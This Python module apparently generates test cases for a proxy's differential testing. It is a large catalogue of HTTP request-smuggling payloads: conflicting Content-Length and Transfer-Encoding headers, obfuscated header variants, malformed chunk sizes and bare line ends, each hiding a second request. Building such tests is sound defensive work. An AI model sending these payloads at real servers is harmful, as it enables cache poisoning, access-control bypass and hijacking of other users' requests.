"""What is sent through gputach to other makers' servers: requests that somebody could read as two.

All of it hides a request for /smuggled in what is, read to the letter, a body, a field, or nothing at all. Nobody sends
that as a request, so whoever logs it was deceived. The cases of differential_cases.py are sent, too, with their paths
changed to ones that are forwarded.
"""

import dataclasses

from differential_cases import GROUPS, HIDDEN

SMUGGLED = "/smuggled-00"  # as long as /proxy/stats: bodies of the other table keep their lengths
FIRST = "/first/00000"  # with the number of the pair
MARK = b"GET " + SMUGGLED.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n"
ZERO = b"0\r\n\r\n"


@dataclasses.dataclass(frozen=True)
class Pair:
    name: str
    sent: bytes
    targets: set  # under which an upstream may see it in good faith


def request(fields="", body=b"", method="POST", target=FIRST, version="HTTP/1.1", host="Host: x\r\n"):
    return f"{method} {target} {version}\r\n{host}{fields}\r\n".encode("latin-1") + body


def chunked(body, fields=""):
    return request(f"Transfer-Encoding: chunked\r\n{fields}", body)


def chunk(data, extension=b""):
    return b"%x%b\r\n%b\r\n" % (len(data), extension, data)


def with_length(fields, body=MARK, **more):
    return request(f"Content-Length: {len(body)}\r\n{fields}", body, **more)


# A body that ends at once for who sees chunks, and holds the hidden request for who sees the length; and the reverse.
CL_TE = ZERO + MARK
TE_CL = chunk(MARK) + ZERO

CODINGS = ["Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding:\tchunked",
           "Transfer-Encoding: chunked\t", "X: x\nTransfer-Encoding: chunked", "X: x\rTransfer-Encoding: chunked",
           "Transfer-Encoding\r\n : chunked", "Transfer-Encoding:\r\n chunked", "X: x\r\n\tTransfer-Encoding: chunked",
           'Transfer-Encoding: "chunked"', "Transfer-Encoding: chunked\0", "Transfer-Encoding: chunked\x0b",
           "Transfer-Encoding: \x0cchunked", "Transfer-Encoding: ,chunked", "Transfer-Encoding: chunked,",
           "Transfer-Encoding: identity, chunked", "Transfer-Encoding: chunked, identity",
           "Transfer-Encoding\0: chunked", "Transfer-Encoding\xa0: chunked", "Transfer-Encoding: \xa0chunked",
           "Transfer-Encoding: chun\xadked", "Transfer-Encoding: chunked;q=1", "Transfer-Encoding: 'chunked'",
           "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
           "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
           "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", "Connection: x\r\nTransfer-Encoding: chunked",
           "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
           "Transfer-Encoding: chunked\r\nConnection: close"]

# These say nothing about the body, so only a length may stand beside them: without it, or after a short one, what
# follows is a second request indeed.
NO_CODINGS = ["Transfer_Encoding: chunked", "transfer_encoding: chunked", "TE: chunked", "Trailer: Transfer-Encoding",
              "Content-Encoding: chunked", "X-Transfer-Encoding: chunked"]

LENGTHS = ["Content-Length: +{n}", "Content-Length: -{n}", "Content-Length: {n} ", "Content-Length:  {n}",
           "Content-Length:\t{n}", "Content-Length: 0{n}", "Content-Length: 0x{n:x}", "Content-Length: {n}, {n}",
           "Content-Length: 0, {n}", "Content-Length: {n}, 0", "Content-Length: {n}\r\nContent-Length: {n}",
           "Content-Length: 0\r\nContent-Length: {n}", "Content-Length: {n}\r\nContent-Length: 0",
           "Content-Length : {n}", "Content-Length:\x0b{n}",
           "Content-Length: {n}\x0c", "Content-Length: {n}.0", "Content-Length: {n}e0", "Content-Length: {n};x",
           'Content-Length: "{n}"', "Content-Length\0: {n}", "Content-Length: {n}\0", "X: x\nContent-Length: {n}",
           "X: x\rContent-Length: {n}", "Content-Length:\r\n {n}", "X: x\r\n Content-Length: {n}",
           "Content-Length: \xb2", "Content-Length: {n}\r\nConnection: Content-Length",
           "Content-Length: {n}\r\nContent_Length: 0", "Content_Length: 0\r\nContent-Length: {n}",
           "X-Content-Length: 0\r\nContent-Length: {n}", "Content-Length: {n}\r\nTransfer_Encoding: chunked",
           "Content-Length: 18446744073709551616", "Content-Length: 1{n}\r\nConnection: close"]


def shown(text):
    return text.encode("unicode_escape").decode()


def codings():
    for field in CODINGS:
        for framing, body in (("and a length", CL_TE), ("and a short length", TE_CL)):
            length = len(body) if body is CL_TE else 4
            yield f"{shown(field)} {framing}", request(f"{field}\r\nContent-Length: {length}\r\n", body)
            yield f"a length {framing} {shown(field)}", request(f"Content-Length: {length}\r\n{field}\r\n", body)
        yield f"{shown(field)} alone", request(f"{field}\r\n", TE_CL)
    for field in NO_CODINGS:
        yield f"{shown(field)}, which is none", with_length(f"{field}\r\n", CL_TE)


def lengths():
    for field in LENGTHS:
        yield shown(field), request(field.format(n=len(MARK)) + "\r\n", MARK)


def methods():
    for method in ("GET", "HEAD", "DELETE", "OPTIONS", "PATCH", "BREW", "TRACE"):
        yield f"{method} with a body", with_length("", method=method)
        yield f"{method} with chunks", request("Transfer-Encoding: chunked\r\n", TE_CL, method=method)
        yield f"{method} in HTTP/1.0 with a body", with_length("", method=method, version="HTTP/1.0")
    yield "HTTP/1.0 with keep-alive and a body", with_length("Connection: keep-alive\r\n", version="HTTP/1.0")
    yield "HTTP/1.0 in chunks", request("Transfer-Encoding: chunked\r\n", TE_CL, version="HTTP/1.0")


def chunks():
    bodies = {
        "one chunk": TE_CL,
        "two chunks that part it": chunk(MARK[:9]) + chunk(MARK[9:]) + ZERO,
        "an extension": chunk(MARK, b";a=b") + ZERO,
        "an extension that quotes a line end": chunk(MARK, b';a="\r\n"') + ZERO,
        "an extension that ends in a bare LF": b"5;\n" + b"xxxxx\r\n" + chunk(MARK) + ZERO,
        "a bare LF within an extension": b"2;\nxx\r\n%x\r\n" % len(MARK) + ZERO + MARK + ZERO,
        "a bare CR within an extension": b"2;\rxx\r\n%x\r\n" % len(MARK) + ZERO + MARK + ZERO,
        "a bare LF after the data": b"5\r\nhello\n" + ZERO + MARK,
        "two bytes after the data": b"5\r\nhelloXX" + ZERO + MARK,
        "one chunk longer than it says": b"5\r\nhello" + CL_TE + b"\r\n" + ZERO,
        "one chunk shorter than it says": b"%x\r\n" % (len(MARK) + 7) + b"hello\r\n" + ZERO + MARK,
        "leading zeros": b"000" + TE_CL,
        "a size with an underscore": b"1_0\r\n" + MARK[:16] + b"\r\n" + ZERO + MARK,
        "a size with 0x": b"0x10\r\n" + MARK[:16] + b"\r\n" + ZERO,
        "a size of 64 bits and more": b"10000000000000000\r\n" + ZERO + MARK,
        "a size of 32 bits and more": b"100000000\r\n" + ZERO + MARK,
        "a negative size": b"-1\r\n" + ZERO + MARK,
        "a size of other digits": b"\xb2\r\nxx\r\n" + ZERO + MARK,
        "spaces round a size": b" 0 \r\n\r\n" + MARK,
        "an empty size": b"\r\n\r\n" + MARK,
        "the last chunk with an extension": chunk(MARK) + b"0;a=b\r\n\r\n",
        "a last chunk of many zeros": chunk(MARK) + b"0000\r\n\r\n",
        "a bare LF at the end": chunk(MARK) + b"0\n\n",
        "a trailer": chunk(MARK) + b"0\r\nX: y\r\n\r\n",
        "a trailer that names a length": chunk(MARK) + b"0\r\nContent-Length: 40\r\n\r\n",
        "a trailer that names a coding": chunk(MARK) + b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
        "a request as a trailer": b"0\r\n" + MARK,
        "a request in a trailer's value": b"0\r\nX: " + MARK.replace(b"\r\n", b" ") + b"\r\n\r\n",
        "a folded trailer": b"0\r\nX: y\r\n " + MARK,
    }
    for name, body in bodies.items():
        yield name, chunked(body)
        yield f"{name}, to who does not read it", chunked(body).replace(FIRST.encode(), b"/unread", 1)


def connections():
    upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    h2c = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
    yield "an upgrade with a body", with_length(upgrade + "Sec-WebSocket-Version: 13\r\n", method="GET")
    yield "an upgrade with chunks", request(f"Transfer-Encoding: chunked\r\n{upgrade}", TE_CL, method="GET")
    yield "an upgrade of a POST", with_length(upgrade)
    yield "an upgrade that is refused", request(upgrade + "Sec-WebSocket-Version: 777\r\n", method="GET")
    yield "an upgrade to h2c", with_length(h2c)
    yield "an upgrade to h2c without a body", request(h2c, method="GET")
    yield "Connection takes Host away", with_length("Connection: Host, Content-Length, keep-alive\r\n")
    yield "Connection takes Expect away", with_length("Connection: Expect\r\nExpect: 100-continue\r\n")
    yield "Expect with the body at once", with_length("Expect: 100-continue\r\n")
    yield "Expect with the body at once, in chunks", chunked(TE_CL, "Expect: 100-continue\r\n")
    yield "Expect with another word", with_length("Expect: y 100-continue\r\n")
    yield "Expect twice", with_length("Expect: 100-continue\r\nExpect: 100-continue\r\n")
    yield "Expect of a GET", with_length("Expect: 100-continue\r\n", method="GET")
    yield "Expect to who does not read", with_length("Expect: 100-continue\r\n", target="/unread")
    yield "a body that nobody reads", with_length("", target="/unread")
    yield "a large body that nobody reads", with_length("", MARK * 2000, target="/unread")
    yield "a large body in chunks that nobody reads", chunked(chunk(MARK) * 2000 + ZERO).replace(
        FIRST.encode(), b"/unread", 1)


def heads():
    escaped = "/first?%0d%0aHost:%20x%0d%0a%0d%0aGET%20" + SMUGGLED
    yield "line ends that are escaped", request(method="GET", target=escaped)
    yield "a fragment", request(method="GET", target="/first#" + SMUGGLED)
    yield "a bare CR for line ends", request(method="GET").replace(b"\r\n", b"\r") + b"\r\n" + MARK
    yield "a version within the target", b"GET /first HTTP/1.1 " + MARK
    yield "an LF in the target", b"GET /first\n" + MARK
    yield "an LF before the fields", b"GET /first HTTP/1.1\nHost: x\n\n" + MARK
    yield "no fields and an LF", b"GET /first HTTP/1.1\r\nHost: x\n\r\n" + MARK
    yield "a NUL before the end", b"GET /first HTTP/1.1\r\nHost: x\r\n\0\r\n" + MARK
    yield "a space before the end", b"GET /first HTTP/1.1\r\nHost: x\r\n \r\n" + MARK
    yield "a request within a field", request("X: " + MARK.decode().replace("\r\n", "\n") + "\r\n", method="GET")
    yield "a request in a folded field", request("X: y\r\n " + MARK.decode()[:-4] + "\r\n", method="GET")
    yield "HTTP/0.9", b"GET /first\r\n" + MARK
    yield "HTTP/2 by prior knowledge", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + MARK
    yield "a target of two lines", b"GET /first\r\n HTTP/1.1\r\nHost: x\r\n\r\n" + MARK
    yield "a tunnel", b"CONNECT x:80 HTTP/1.1\r\nHost: x:80\r\n\r\n" + MARK
    yield "a control character in Host", b"GET /first HTTP/1.1\r\nHost: x\x0b\r\n\r\n" + MARK


def of_the_other_table():
    """The second request of theirs is added by the test, as here."""
    mark = b"OPTIONS " + SMUGGLED.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n"
    assert len(mark) == len(HIDDEN)
    for cases in GROUPS.values():
        for case in cases:
            sent = case.sent if case.sent == HIDDEN else case.sent.replace(HIDDEN, mark)
            yield case.name, sent.replace(b"/proxy/stats", FIRST.encode())


def visible(sent):
    """The targets under which an upstream may see it in good faith."""
    line = sent.lstrip(b"\r\n").partition(b"\r\n")[0].decode("latin-1").split(" ")
    target = line[1] if len(line) > 1 else ""
    path = "/" + target.partition("://")[2].partition("/")[2]
    return {target, path} if "://" in target else {target}


def all_pairs():
    groups = {"codings": codings, "lengths": lengths, "methods": methods, "chunks": chunks,
              "connections": connections, "heads": heads, "table": of_the_other_table}
    rows = [(f"{group}: {name}", sent) for group, listed in groups.items() for name, sent in listed()]
    for number, (name, sent) in enumerate(rows):
        numbered = sent.replace(FIRST.encode(), b"/first/%05d" % number)
        yield Pair(name, numbered, visible(numbered))


PAIRS = list(all_pairs())
